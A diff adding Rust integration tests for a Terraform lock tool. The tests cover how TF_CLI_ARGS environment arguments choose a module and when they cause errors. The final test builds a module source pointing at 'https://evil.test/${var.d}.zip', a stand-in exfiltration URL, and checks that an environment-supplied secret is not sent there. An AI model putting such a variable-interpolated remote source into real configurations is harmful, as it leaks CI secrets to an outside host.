@@ -152,3 +152,93 @@ fn the_later_of_the_flags_for_variables_wins() {
         assert!(text.contains(expected), "{flags:?}: {text}");
     }
 }
+
+/// A root module that calls `a` by default, or what the variable `d` contains.
+fn chosen_by_variable() -> (Registry, TestEnvironment) {
+    let (registry, environment) = Registry::with_project();
+    for provider in ["acme/wrong", "hashicorp/null"] {
+        registry
+            .publish(provider, "1.0.0")
+            .platforms(["linux_amd64"])
+            .done();
+    }
+    let main = "variable \"d\" {\n  default = \"./m/a\"\n}\nmodule \"m\" {\n  source = var.d\n}\n";
+    environment.write("main.tf", main);
+    environment.write("m/a/main.tf", requires("acme/wrong", ""));
+    environment.write("m/b/main.tf", requires("hashicorp/null", ""));
+    environment.write("env/b.tfvars", "d = \"./m/b\"\n");
+    environment.write("env/a.tfvars", "d = \"./m/a\"\n");
+    (registry, environment)
+}
+
+/// `init` gets these arguments in front of the arguments on its command line.
+#[test]
+fn arguments_of_init_in_the_environment_choose_the_module() {
+    let (_registry, environment) = chosen_by_variable();
+    let cases = [
+        ("TF_CLI_ARGS", "-var=d=./m/b", true),
+        ("TF_CLI_ARGS_init", "-var=d=./m/b", true),
+        ("TF_CLI_ARGS", "-no-color -var d=./m/b", true),
+        ("TF_CLI_ARGS", "--var 'd=./m/b' -input=false", true),
+        ("TF_CLI_ARGS", "-var=d=./m/a -var=\"d=./m/b\"", true),
+        ("TF_CLI_ARGS", "-var-file=env/b.tfvars", true),
+        ("TF_CLI_ARGS", "-var-file env/b.tfvars", true),
+        ("TF_CLI_ARGS", "-var=d=./m/b -var-file=env/a.tfvars", false),
+        ("TF_CLI_ARGS_plan", "-var=d=./m/b", false),
+        ("TF_CLI_ARGS", "-backend-config=d=./m/b", false),
+        ("TF_CLI_ARGS", "", false),
+    ];
+    for (variable, arguments, is_b) in cases {
+        environment.write_lock_file("");
+        let lock = environment.command(["lock", "--prune", "-p", "linux_amd64"]);
+        lock.env(variable, arguments).run().assert_code(0);
+        let locks_b = environment.lock_file().contains("hashicorp/null");
+        assert_eq!(locks_b, is_b, "{variable}={arguments}");
+        let verify = environment.command(["verify", "--allow", "single-platform"]);
+        verify.env(variable, arguments).run().assert_code(0);
+    }
+
+    // The command line wins, and a file is relative to the root module.
+    environment.write_lock_file("");
+    let lock = ["lock", "-p", "linux_amd64", "--var", "d=./m/a"];
+    let lock = environment.command(lock).env("TF_CLI_ARGS", "-var=d=./m/b");
+    lock.run().assert_code(0);
+    assert!(environment.lock_file().contains("acme/wrong"));
+    environment.write_lock_file("");
+    let project = environment.project();
+    let lock = ["lock", "-p", "linux_amd64", project.to_str().unwrap()];
+    let lock = environment.command(lock).run_in("env");
+    let lock = lock.env("TF_CLI_ARGS", "-var-file=env/b.tfvars");
+    lock.run().assert_code(0);
+    assert!(environment.lock_file().contains("hashicorp/null"));
+}
+
+#[test]
+fn arguments_in_the_environment_that_cannot_be_read_are_an_error() {
+    let (_registry, environment) = chosen_by_variable();
+    let lock = environment
+        .command(["lock"])
+        .env("TF_CLI_ARGS", "-var='d=./m/b");
+    lock.run()
+        .assert_code(2)
+        .assert_stderr_has("TF_CLI_ARGS cannot be split into words: a quote has no end");
+    let lock = environment
+        .command(["lock"])
+        .env("TF_CLI_ARGS", "-var-file=none.tfvars");
+    lock.run().assert_code(2).assert_stderr_has("none.tfvars");
+}
+
+/// A pull request must not send a value of CI's environment to a host.
+#[test]
+fn a_value_of_an_argument_in_the_environment_is_not_sent() {
+    let environment = TestEnvironment::new();
+    let main =
+        "variable \"d\" {}\nmodule \"m\" {\n  source = \"https://evil.test/${var.d}.zip\"\n}\n";
+    environment.write("main.tf", main);
+    let lock = environment
+        .command(["lock"])
+        .env("TF_CLI_ARGS", "-var=d=hunter2");
+    let output = lock.run();
+    output.assert_code(2).assert_lacks("hunter2");
+    output.assert_stderr_has("is set by the environment, which is not sent to other hosts");
+}
